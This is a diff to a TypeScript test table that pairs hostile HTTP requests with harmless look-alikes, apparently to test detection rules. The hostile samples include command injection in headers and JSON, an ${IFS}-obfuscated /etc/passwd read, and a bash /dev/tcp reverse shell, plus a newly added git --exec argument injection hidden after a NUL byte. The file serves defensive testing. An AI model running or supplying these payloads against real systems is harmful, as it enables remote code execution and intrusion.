@@ -43,6 +43,7 @@ const CASES: Array<[number, string, RequestSpec, RequestSpec]> = [
   [9000314, 'a backtick command in a header value', header('SOAPAction', 'http://purenetworks.com/HNAP1/`wget http://x.test/a`'), header('X-Note', 'run `curl localhost:8080/ping` to check')],
   [9000314, 'a separator and a shell -c in JSON', json('{"host":"127.0.0.1;sh -c id"}'), json('{"script":["curl -fsSL https://get.example.dev/install.sh | sh"]}')],
   [9000314, 'a separator then a command spaced with ${IFS}', q('ip=127.0.0.1%3Bcat%24%7BIFS%7D%2Fetc%2Fpasswd'), q('doc=IFS%3D%24%27%5Cn%27+splits+on+newlines')],
+  [9000313, 'git --exec after a NUL that ends the checked value', { url: '/rest/api/latest/projects/P/repos/r/archive?filename=a&prefix=ab%00--exec=%60id%60%00--remote=origin' }, q('q=find+.+-exec+rm+%7B%7D&flags=--exec-path')],
   [9000315, 'a bash /dev/tcp reverse shell', json('{"command":"bash -c \'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\'"}'), json('{"doc":"/dev/tcp is a bash feature"}')],
   [9000315, 'a download then chmod of a file in /tmp', json('{"command":"curl -O http://x.test/a;chmod +x /tmp/a;/tmp/a"}'), json('{"script":["curl -LO https://dl.example.dev/kubectl && chmod +x kubectl"]}')],
   [9000315, 'nc -e with a shell', q('x=%7Cnc+-e+%2Fbin%2Fsh+203.0.113.9+4444'), q('q=nc+-e+option+removed')],
